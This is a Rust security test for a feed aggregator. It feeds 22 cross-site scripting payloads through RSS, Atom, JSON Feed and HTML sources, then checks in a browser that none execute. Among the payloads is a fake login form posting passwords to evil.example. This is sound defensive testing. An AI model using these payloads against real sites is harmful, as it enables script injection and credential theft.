//! What attackers put into feeds and pages, in every field of every kind of source, through a real
//! pass and into a real browser: nothing runs, and nothing that could is left.

use serde_json::json;

use crate::browser::{ACTIVE, Foreign, SHADOWS, assert_sound, look};
use crate::support::bench::Bench;
use crate::support::origin::{Origin, Reply, Request};
use crate::support::server::Server;

/// `R()` is what would tell that it ran.
const PAYLOADS: [&str; 22] = [
    "<script>R()</script>",
    "</title></textarea></style></script><script>R()</script>",
    "\"><img src=x onerror=R()>",
    "' autofocus onfocus='R()' x='",
    "<svg/onload=R()>",
    "<svg><script>R()</script><a xlink:href=\"javascript:R()\"><text y=9>x</text></a></svg>",
    "<a href=\"javascript:R()\">x</a>",
    "<a href=\"jav&#x09;ascript:R()\">x</a>",
    "<a href=\" &#14; javascript:R()\">x</a>",
    "<a href=\"data:text/html,<script>R()</script>\">x</a>",
    "<iframe srcdoc=\"<script>R()</script>\"></iframe>",
    "<form action=\"https://evil.example/\"><input name=password><button formaction=\"javascript:R()\">x</form>",
    "<object data=\"javascript:R()\"></object><embed src=\"javascript:R()\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=R()&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=R()>\"></noscript>",
    "<base href=\"javascript:R()//\"><meta http-equiv=refresh content=\"0;url=javascript:R()\">",
    "]]><script>R()</script><![CDATA[",
    "&lt;img src=x onerror=R()&gt;",
    "&amp;lt;img src=x onerror=R()&amp;gt;",
    "{{ \"<script>R()</script>\"|safe }}{% raw %}<b onclick=R()>x</b>",
    "javascript:R()",
    "x\u{0}\u{8}<img\u{c}src=x\u{a0}onerror=R()>",
];

const BREAKS_LISTS: [&str; 6] = ["<table", "</title", "<noscript", "<form", "CDATA", "<iframe"];

fn payloads() -> impl Iterator<Item = (usize, String)> {
    PAYLOADS.iter().map(|text| text.replace("R()", "alert(document.domain)")).enumerate()
}

/// For XML and for HTML, where controls cannot be written.
fn escape(text: &str) -> String {
    let legal = text.chars().filter(|c| !c.is_control());
    let text: String = legal.collect();
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;").replace('"', "&quot;")
}

fn cdata(text: &str) -> String {
    let legal: String = text.chars().filter(|c| !c.is_control()).collect();
    format!("<![CDATA[{}]]>", legal.replace("]]>", "]]]]><![CDATA[>"))
}

fn rss(write: fn(&str) -> String) -> String {
    let item = |(n, text): (usize, String)| {
        let (p, a) = (write(&text), escape(&text));
        format!(
            "<item><title>{n} {p}</title><link>{p}</link><guid isPermaLink=\"true\">{p}{n}</guid>\
             <description>{p}</description><author>{p}</author><dc:creator>{p}</dc:creator>\
             <category domain=\"{a}\">{p}</category><comments>{p}</comments>\
             <enclosure url=\"{a}\" length=\"{a}\" type=\"{a}\"/>\
             <source url=\"{a}\">{p}</source><pubDate>{p}</pubDate><dc:language>{p}</dc:language>\
             <content:encoded>{p}</content:encoded><ev:startdate>2026-05-04</ev:startdate>\
             <ev:location>{p}</ev:location><media:content url=\"{a}\" type=\"{a}\" medium=\"image\">\
             <media:title>{p}</media:title></media:content><itunes:image href=\"{a}\"/></item>"
        )
    };
    let items: String = payloads().map(item).collect();
    let first = write(&payloads().next().unwrap().1);
    format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\" \
         xmlns:content=\"http://purl.org/rss/1.0/modules/content/\" \
         xmlns:media=\"http://search.yahoo.com/mrss/\" \
         xmlns:itunes=\"http://www.itunes.com/dtds/podcast-1.0.dtd\" \
         xmlns:ev=\"http://purl.org/rss/1.0/modules/event/\"><channel><title>{first}</title>\
         <link>{first}</link><description>{first}</description><language>{first}</language>\
         <image><url>{first}</url><title>{first}</title><link>{first}</link></image>{items}\
         </channel></rss>"
    )
}

fn atom() -> String {
    let entry = |(n, text): (usize, String)| {
        let a = escape(&text);
        format!(
            "<entry xml:lang=\"{a}\"><title type=\"html\">{n} of the Atom feed {a}</title><id>{a}{n}</id>\
             <link href=\"{a}\"/><link rel=\"enclosure\" href=\"{a}\" type=\"{a}\" title=\"{a}\"/>\
             <link rel=\"via\" href=\"{a}\"/><updated>{a}</updated><published>{a}</published>\
             <author><name>{a}</name><uri>{a}</uri><email>{a}</email></author>\
             <category term=\"{a}\" scheme=\"{a}\" label=\"{a}\"/><rights type=\"html\">{a}</rights>\
             <media:thumbnail url=\"{a}\"/><summary type=\"html\">{a}</summary><content type=\"html\">{a}</content>\
             <source><title>{a}</title><id>{a}</id><link href=\"{a}\"/></source></entry>"
        )
    };
    let entries: String = payloads().map(entry).collect();
    let first = escape(&payloads().next().unwrap().1);
    format!(
        "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\" \
         xmlns:media=\"http://search.yahoo.com/mrss/\"><title type=\"html\">{first}</title>\
         <icon>{first}</icon><logo>{first}</logo><author><name>{first}</name></author><id>urn:x</id><updated>2026-01-01T00:00:00Z</updated>{entries}</feed>"
    )
}

fn json_feed() -> String {
    let item = |(n, p): (usize, String)| {
        json!({
            "id": format!("{p}{n}"), "url": p, "external_url": p, "title": format!("{n} of the JSON feed {p}"),
            "content_html": p, "summary": p, "image": p, "banner_image": p, "date_published": p,
            "authors": [{ "name": p, "url": p, "avatar": p }], "tags": [p], "language": p,
            "attachments": [{ "url": p, "mime_type": p, "title": p }],
        })
    };
    let items: Vec<_> = payloads().map(item).collect();
    let first = payloads().next().unwrap().1;
    json!({
        "version": "https://jsonfeed.org/version/1.1", "title": first, "icon": first, "favicon": first,
        "home_page_url": first, "description": first, "language": first,
        "authors": [{ "name": first, "url": first }], "items": items,
    })
    .to_string()
}

fn listing() -> String {
    let row = |(n, text): (usize, String)| {
        let a = escape(&text);
        // What breaks the list itself would only leave rows out.
        let raw = if BREAKS_LISTS.iter().any(|part| text.contains(part)) { "" } else { &text };
        format!(
            "<li lang=\"{a}\"><p class=kind>{a}</p><h3><a href=\"/story-{n}?{a}\" title=\"{a}\">{n} of the list {a}</a></h3>\
             <p class=date>{a}</p><p class=summary>{a} {raw}</p><img src=\"{a}\" alt=\"{a}\"></li>"
        )
    };
    let rows: String = payloads().map(row).collect();
    let title = escape(&payloads().next().unwrap().1);
    format!("<!doctype html><html lang=\"{title}\"><title>{title}</title><ol>{rows}</ol>")
}

/// Rows whose links themselves are payloads; those that lead to nothing are left out.
fn links() -> String {
    let row = |(n, text): (usize, String)| {
        let a = escape(&text);
        format!(
            "<li><h3><a href=\"{a}{n}\" hreflang=\"{a}\">{n} of the links {a}</a></h3>\
             <time datetime=\"{a}\">{a}</time><img srcset=\"{a}\" data-src=\"{a}\"></li>"
        )
    };
    let rows: String = payloads().map(row).collect();
    format!("<!doctype html><title>Links</title><ol>{rows}</ol>")
}

/// Events that a page tells in data alone: what rows have no place for, authors among it.
fn linked_data() -> String {
    let things = payloads().map(|(n, p)| {
        json!({
            "@type": "Event", "name": format!("{n} of the events {p}"), "url": format!("/event-{n}"),
            "@id": p, "author": { "name": p, "url": p }, "articleSection": p, "genre": p,
            "description": p, "image": { "url": p }, "inLanguage": p, "datePublished": p,
            "startDate": "2026-05-04", "endDate": p, "eventStatus": p,
            "location": { "name": p, "address": { "streetAddress": p } },
        })
    });
    // As those write it who know that a script ends at `</script`.
    let data = json!({ "@graph": things.collect::<Vec<_>>() }).to_string().replace('<', "\\u003c");
    format!(
        "<!doctype html><title>Data</title><script type=\"application/ld+json\">{data}</script>"
    )
}

fn reply(request: &Request) -> Reply {
    let (body, media_type) = match request.path() {
        "/rss" => (rss(escape), "application/rss+xml"),
        "/cdata" => (rss(cdata), "application/rss+xml"),
        "/atom" => (atom(), "application/atom+xml"),
        "/json" => (json_feed(), "application/feed+json"),
        "/list" => (listing(), "text/html; charset=utf-8"),
        "/links" => (links(), "text/html; charset=utf-8"),
        "/data" => (linked_data(), "text/html; charset=utf-8"),
        _ => return Reply::status(404),
    };
    Reply::ok(body).header("Content-Type", media_type)
}

const SOURCES: [&str; 7] = ["rss", "cdata", "atom", "json", "list", "links", "data"];

/// Parses every text of the feeds that is meant as HTML, and looks for what could run in it.
const IN_FEEDS: &str = r#"
    const bad = [];
    const check = (html, where) => {
        const page = new DOMParser().parseFromString(html, "text/html");
        for (const element of page.querySelectorAll("*")) {
            const names = element.getAttributeNames();
            const value = (name) => (element.getAttribute(name) ?? "").replace(/[\u0000-\u0020]/g, "");
            if (names.some((name) => name.startsWith("on") || name === "style" || name === "srcdoc")
                || names.some((name) => /^(javascript|vbscript|data):/i.test(value(name)) && !/^data:image\/(png|gif|jpeg|webp);/i.test(value(name)))
                || ["SCRIPT", "STYLE", "IFRAME", "OBJECT", "EMBED", "FORM", "INPUT", "BASE", "META", "LINK", "SVG", "MATH"].includes(element.nodeName.toUpperCase()))
                if (!["HTML", "HEAD", "BODY"].includes(element.nodeName)) bad.push([where, element.outerHTML.slice(0, 200)]);
        }
    };
    const addresses = (value, where) => { if (/^[\u0000-\u0020]*(javascript|vbscript|data):/i.test(value)) bad.push([where, value]); };
    let seen = 0;
    const walk = (value, name) => {
        if (typeof value === "string") {
            if (name === "content_html") { check(value, "feed.json"); seen += 1; }
            if (["url", "external_url", "image", "comments_url"].includes(name)) addresses(value, `feed.json ${name}`);
        } else if (value && typeof value === "object") {
            for (const [key, one] of Object.entries(value)) walk(one, Array.isArray(value) ? name : key);
        }
    };
    walk(await (await fetch("feed.json")).json(), "");
    for (const file of ["rss.xml", "atom.xml"]) {
        const feed = new DOMParser().parseFromString(await (await fetch(file)).text(), "text/xml");
        if (feed.querySelector("parsererror")) bad.push([file, "it cannot be read"]);
        for (const element of feed.querySelectorAll("*")) {
            // Atom's texts are no HTML unless they say so.
            const isText = file === "atom.xml" && element.getAttribute("type") !== "html";
            if (["description", "content", "summary", "encoded"].includes(element.localName) && !isText) { check(element.textContent, file); seen += 1; }
            for (const attribute of element.attributes) if (["href", "url", "src"].includes(attribute.localName)) addresses(attribute.value, file);
            if (["link", "guid", "comments", "uri", "id"].includes(element.localName)) addresses(element.textContent, file);
            if (element.namespaceURI === "http://www.w3.org/1999/xhtml") bad.push([file, element.outerHTML]);
        }
    }
    return [seen > 100, bad];"#;

/// The folder of a feed that is named after a payload.
fn a_tag(bench: &Bench) -> String {
    let folders = std::fs::read_dir(bench.path("public/by/tag")).unwrap();
    let mut names: Vec<_> = folders.map(|one| one.unwrap().file_name()).collect();
    names.sort();
    format!("by/tag/{}/", names[0].to_str().unwrap())
}

#[test]
fn nothing_runs_of_what_attackers_write_into_any_field() {
    let origin = Origin::start(reply);
    let sources = SOURCES.map(|id| {
        let url = origin.url(&format!("/{id}"));
        let listing = match id {
            "list" => {
                "type = \"listing\"\nheal = \"off\"\n[source.listing]\nitem = \"ol > li\"\ntitle = \"h3 a\"\n\
                 link = \"h3 a\"\ndate = \".date\"\nkind = \".kind\"\nsummary = \".summary\"\nimage = \"img\"\n"
            }
            "links" => "type = \"listing\"\n[source.listing]\nitem = \"ol > li\"\ndate = \"time\"\nimage = \"img\"\n",
            "data" => "type = \"listing\"\n",
            _ => "",
        };
        format!("[[source]]\nid = \"{id}\"\nurl = \"{url}\"\n{listing}")
    });
    let bench =
        Bench::new(&format!("[publish]\nitems = 500\nby = [\"tag\"]\n{}", sources.concat()));
    let report = bench.sangam(&["run", "--json"]).json();
    for row in report["sources"].as_array().unwrap() {
        assert!(row["error"].is_null(), "{row}");
        // Of the links a third leads nowhere.
        let least = PAYLOADS.len() as u64 * if row["id"] == "links" { 6 } else { 9 } / 10;
        assert!(row["seen"].as_u64().unwrap() >= least, "{row}");
    }
    for file in report["published"].as_array().unwrap() {
        assert!(file["error"].is_null(), "{file}");
    }
    let server = Server::start(&bench.path("public"));
    let base = format!("http://{}", server.address);
    let lines = format!(
        "<script type=\"module\" src=\"{base}/embed.js\"></script>\
         <sangam-feed src=\"{base}/feed.json\" limit=\"500\" layout=\"cards\"></sangam-feed>"
    );
    let elsewhere = Foreign::start(&lines, server.address.port());
    let visit = |name: &str, url: String, ask: &str| json!({ "name": name, "url": url, "width": 360, "ask": ask, "axe": false });
    let visits = [
        visit("payloads-page", format!("{base}/index.html"), ACTIVE),
        visit(
            "payloads-asked",
            format!(
                "{base}/index.html?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&kind=%3Cscript%3E"
            ),
            ACTIVE,
        ),
        visit("payloads-frame", format!("{base}/embed.html"), ACTIVE),
        visit("payloads-fragment", format!("{base}/embed.fragment.html"), ACTIVE),
        visit("payloads-tag", format!("{base}/{}index.html", a_tag(&bench)), ACTIVE),
        visit("payloads-builder", format!("{base}/widget.html"), "return [];"),
        visit("payloads-status", format!("{base}/status.html"), ACTIVE),
        visit("payloads-widget", elsewhere.url(), &format!("{SHADOWS} {ACTIVE}")),
        visit("payloads-rss", format!("{base}/rss.xml"), "return [];"),
        visit("payloads-atom", format!("{base}/atom.xml"), "return [];"),
        visit("payloads-feeds", format!("{base}/widget.html"), IN_FEEDS),
    ];
    let Some(reports) = look(&visits) else { return };
    for (name, report) in &reports {
        let mut report = report.clone();
        // The page has no frame for the second feed, and pictures of attackers are not there.
        report.console.retain(|line| !line.contains("ERR_"));
        assert_sound(&report);
        let expected = if name == "payloads-feeds" { json!([true, []]) } else { json!([]) };
        assert_eq!(report.answer, Some(expected), "{name}");
    }
}
